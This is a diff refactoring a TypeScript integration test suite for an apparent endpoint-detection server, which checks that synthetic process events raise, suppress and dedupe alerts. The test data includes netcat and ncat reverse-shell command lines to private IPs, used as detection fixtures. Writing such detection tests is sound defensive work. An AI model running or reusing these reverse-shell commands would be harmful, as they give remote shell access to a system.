@@ -4,55 +4,20 @@
 
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { pino } from 'pino';
-import { startEmbeddedServer, type RunningServer } from '../../src/server/embedded.ts';
-import { SimulatedAgent } from '../../src/agent/simulator.ts';
+import { TestServer } from '../support/embedded-server.ts';
+import { eventually as eventuallyWithin } from '../support/vigil-process.ts';
 import type { VigilEvent } from '../../src/schema/event.ts';
 
-let dir: string;
-let server: RunningServer;
-let apiKey: string;
-let agent: SimulatedAgent;
+let t: TestServer;
 
-const start = () => startEmbeddedServer({ dataDir: dir, http: '127.0.0.1:0', grpc: '127.0.0.1:0', log: pino({ level: 'silent' }) });
+before(async () => { t = await TestServer.start('detect-host'); });
+after(() => t.stop());
 
-before(async () => {
-  dir = mkdtempSync(join(tmpdir(), 'vigil-detect-'));
-  server = await start();
-  apiKey = readFileSync(server.adminKeyPath, 'utf8').trim();
-  agent = await SimulatedAgent.enroll(server.grpcAddress, server.caPem, await server.createEnrollmentToken(), 'detect-host');
-  agent.connect();
-});
-
-after(async () => {
-  agent.close();
-  await server.stop();
-  rmSync(dir, { recursive: true, force: true });
-});
-
-async function api(method: string, path: string, body?: unknown): Promise<{ status: number; body: any }> {
-  const res = await fetch(`${server.httpUrl}${path}`, {
-    method, headers: { authorization: `Bearer ${apiKey}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
-    body: body === undefined ? undefined : JSON.stringify(body),
-  });
-  return { status: res.status, body: await res.json() };
-}
-
-async function eventually<T>(probe: () => Promise<T | undefined>, what: string): Promise<T> {
-  const until = Date.now() + 15_000;
-  for (;;) {
-    const v = await probe();
-    if (v !== undefined) return v;
-    if (Date.now() > until) throw new Error(`timed out waiting for ${what}`);
-    await new Promise((r) => setTimeout(r, 50));
-  }
-}
+const api = (method: string, path: string, body?: unknown) => t.api(method, path, body);
+const eventually = <T>(probe: () => Promise<T | undefined>, what: string) => eventuallyWithin(probe, 15_000, what);
 
 function processStart(exe: string, args: string[]): VigilEvent {
-  const e = agent.syntheticEvents(1)[0];
+  const e = t.agent.syntheticEvents(1)[0];
   e.process = { ...e.process!, executable: exe, name: exe.split('/').pop(), args, command_line: args.join(' ') };
   return e;
 }
@@ -65,18 +30,18 @@ async function alertsFor(eventId: string): Promise<any[]> {
 test('a netcat reverse shell raises the built-in alert, with author and MITRE techniques, and is triaged', async () => {
   const ev = processStart('/usr/bin/nc', ['/usr/bin/nc', '10.9.8.7', '4444', '-e', '/bin/sh']);
   const benign = processStart('/usr/bin/nc', ['/usr/bin/nc', '-z', '10.9.8.7', '22']);
-  await agent.send([ev, benign]);
+  await t.agent.send([ev, benign]);
   const [alert] = await eventually(async () => ((await alertsFor(ev.event.id)).length ? alertsFor(ev.event.id) : undefined), 'the alert');
   assert.equal(alert.rule.title, 'Netcat Reverse Shell');
   assert.equal(alert.rule.author, 'Vigil');
   assert.equal(alert.severity, 'high');
   assert.equal(alert.status, 'open');
-  assert.equal(alert.host_id, agent.identity.agentId);
+  assert.equal(alert.host_id, t.agent.identity.agentId);
   assert.equal(alert.process_entity_id, ev.process!.entity_id);
   assert.ok(alert.techniques.some((t: any) => t.id === 'T1059.004' && t.name && t.tactics.length), JSON.stringify(alert.techniques));
   assert.deepEqual(await alertsFor(benign.event.id), [], 'a port scan without -e is no reverse shell');
 
-  await agent.send([ev]); // a re-delivered event does not raise a second alert
+  await t.agent.send([ev]); // a re-delivered event does not raise a second alert
   await new Promise((r) => setTimeout(r, 300));
   assert.equal((await alertsFor(ev.event.id)).length, 1);
 
@@ -98,13 +63,13 @@ test('a netcat reverse shell raises the built-in alert, with author and MITRE te
 
 test('a suppressed rule keeps raising alerts, but they arrive suppressed until the expiry', async () => {
   const first = processStart('/usr/bin/ncat', ['/usr/bin/ncat', '10.1.1.1', '9001', '--sh-exec', 'sh']);
-  await agent.send([first]);
+  await t.agent.send([first]);
   const [a] = await eventually(async () => ((await alertsFor(first.event.id)).length ? alertsFor(first.event.id) : undefined), 'the alert');
   const until = new Date(Date.now() + 3_600_000).toISOString();
   const s = await api('POST', `/api/v1/alerts/${a.id}/suppress`, { reason: 'known admin script', until });
   assert.equal(s.body.status, 'suppressed');
   const second = processStart('/usr/bin/ncat', ['/usr/bin/ncat', '10.1.1.2', '9001', '--sh-exec', 'sh']);
-  await agent.send([second]);
+  await t.agent.send([second]);
   const [b] = await eventually(async () => ((await alertsFor(second.event.id)).length ? alertsFor(second.event.id) : undefined), 'the second alert');
   assert.equal(b.status, 'suppressed');
   assert.equal(b.suppressed_until, until);
@@ -138,7 +103,7 @@ test('rules: a broken upload is refused with its error; a good one detects, can 
   const hit = processStart('/opt/x/vigil-marker-tool', ['/opt/x/vigil-marker-tool', '--go']);
   const dry = await api('POST', '/api/v1/rules/test', { yaml: CUSTOM_RULE, hours: 1 });
   assert.equal(dry.status, 200);
-  await agent.send([hit]);
+  await t.agent.send([hit]);
   const [alert] = await eventually(async () => ((await alertsFor(hit.event.id)).length ? alertsFor(hit.event.id) : undefined), 'the custom alert');
   assert.equal(alert.rule.author, 'Vigil tests');
   const dryAfter = await api('POST', '/api/v1/rules/test', { yaml: CUSTOM_RULE, hours: 1 });
@@ -146,16 +111,12 @@ test('rules: a broken upload is refused with its error; a good one detects, can 
 
   assert.equal((await api('POST', `/api/v1/rules/${id}/disable`)).body.enabled, false);
   const missed = processStart('/opt/y/vigil-marker-tool', ['/opt/y/vigil-marker-tool']);
-  await agent.send([missed]);
+  await t.agent.send([missed]);
   await new Promise((r) => setTimeout(r, 500));
   assert.deepEqual(await alertsFor(missed.event.id), [], 'a disabled rule raises nothing');
   assert.equal((await api('DELETE', '/api/v1/rules/5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001')).status, 409, 'built-in rules are read-only');
 
-  agent.close();
-  await server.stop();
-  server = await start();
-  agent = await SimulatedAgent.enroll(server.grpcAddress, server.caPem, await server.createEnrollmentToken(), 'detect-host-2');
-  agent.connect();
+  await t.restart('detect-host-2');
   const after = await api('GET', `/api/v1/rules/${id}`);
   assert.equal(after.status, 200);
   assert.equal(after.body.enabled, false, 'the switch survived the restart');
